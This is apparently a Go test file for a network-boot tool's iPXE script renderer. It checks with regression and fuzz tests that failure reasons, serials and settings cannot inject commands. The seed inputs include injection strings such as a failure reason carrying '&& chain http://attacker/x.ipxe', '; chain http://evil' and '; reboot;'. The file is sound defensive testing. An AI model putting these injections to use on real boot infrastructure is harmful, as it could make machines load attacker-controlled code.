package render

import (
	"regexp"
	"strings"
	"testing"

	"github.com/mayu-boot/mayu/pkg/identity"
	"github.com/mayu-boot/mayu/pkg/machine"
)

// The finding of the review: a failure reason echoed into the iPXE script
// of every later boot became a command.
const attackerReason = "disk error && chain http://attacker/x.ipxe #"

func TestAttackerReasonYieldsNoIPXECommand(t *testing.T) {
	s := string(WaitScript("http://10.0.3.250:4081", "the install of m1 failed (installer reported: "+attackerReason+")"))
	checkIPXE(t, s, 5)
	if strings.Contains(s, "&&") || strings.Contains(s, "#\n") {
		t.Fatalf("the reason reached the script as it was:\n%s", s)
	}
}

func FuzzWaitScript(f *testing.F) {
	for _, s := range []string{attackerReason, "a || b", "x ; chain http://evil", "${net0/mac}", "#!ipxe\nshell", "quote \" ' \\", ":label\ngoto label", "\r\n\x1b[2J"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, why string) {
		checkIPXE(t, string(WaitScript("http://10.0.3.250:4081", why)), 5)
		m := Sample()
		m.Profile, m.InternalAddr = why, why
		if identity.Check(why) == nil {
			// Every machine mayu renders for came through identity.Check
			// (its id is in the URLs of the kernel line, not echoed).
			m.ID = why
		}
		c := (&Renderer{cluster: cluster()}).Context(m, "tok", "http://10.0.3.250:4081")
		checkIPXE(t, string(InstallerScript(c, "console=ttyS0")), 10)
		checkIPXE(t, string(LocalBootScript(why)), 3)
	})
}

// checkIPXE checks that a script has the lines it should, and that every
// echo line is one echo: by iPXE's rules (exec.c), a whitespace-separated
// token "&&", "||" or ";" ends a command and one starting with "#" a
// comment; ${...} expands a setting; quotes and backslashes group and
// escape. None of that may come from the text echoed.
func checkIPXE(t *testing.T, script string, lines int) {
	t.Helper()
	ls := strings.Split(strings.TrimSuffix(script, "\n"), "\n")
	if len(ls) != lines || ls[0] != "#!ipxe" {
		t.Fatalf("%d lines, want %d:\n%s", len(ls), lines, script)
	}
	for _, l := range ls {
		text, ok := strings.CutPrefix(l, "echo ")
		if !ok {
			continue
		}
		if strings.ContainsAny(text, "$\"'\\\r\x00") {
			t.Fatalf("echo line holds an iPXE metacharacter: %q", l)
		}
		for _, tok := range strings.Fields(text) {
			if tok == "&&" || tok == "||" || tok == ";" || strings.HasPrefix(tok, "#") {
				t.Fatalf("echo line holds a command separator or comment %q: %q", tok, l)
			}
		}
	}
}

// Node text reaches the templates (and so the first-stage script) only
// through the allow-list.
func TestTemplatesSeeNodeTextPlain(t *testing.T) {
	m := Sample()
	m.Serial, m.Arch, m.FailReason = "sn'; reboot; '\x1b[2J", attackerReason, attackerReason
	m.History = append(m.History, machine.Event{State: machine.Failed, Reason: attackerReason})
	c := (&Renderer{cluster: cluster()}).Context(m, "tok", "http://x")
	for _, s := range []string{c.Machine.Serial, c.Machine.Arch, c.Machine.FailReason, c.Machine.History[1].Reason} {
		if strings.ContainsAny(s, "';&#\x1b") {
			t.Errorf("template sees %q", s)
		}
	}
	if m.Serial != "sn'; reboot; '\x1b[2J" || m.History[1].Reason != attackerReason {
		t.Error("the record itself was changed")
	}
}

// iPXE expands settings before it splits a line into commands: a script
// may expand only settings whose text iPXE formats itself, never a string
// the firmware or a DHCP server supplied (${serial}, ${hostname}, ...).
func TestScriptsExpandOnlyFormattedSettings(t *testing.T) {
	safe := map[string]bool{"${serial:hexraw}": true, "${uuid}": true, "${mac}": true, "${mac:hexhyp}": true, "${buildarch}": true}
	c := (&Renderer{cluster: cluster()}).Context(Sample(), "tok", "http://x")
	for name, s := range map[string][]byte{
		"chain": ChainScript("http://x"), "installer": InstallerScript(c, "console=${serial}"),
		"local": LocalBootScript("m1"), "wait": WaitScript("http://x", "${serial}"),
	} {
		for _, exp := range regexp.MustCompile(`\$\{[^}]*\}`).FindAllString(string(s), -1) {
			if !safe[exp] {
				t.Errorf("%s script expands %s:\n%s", name, exp, s)
			}
		}
	}
}
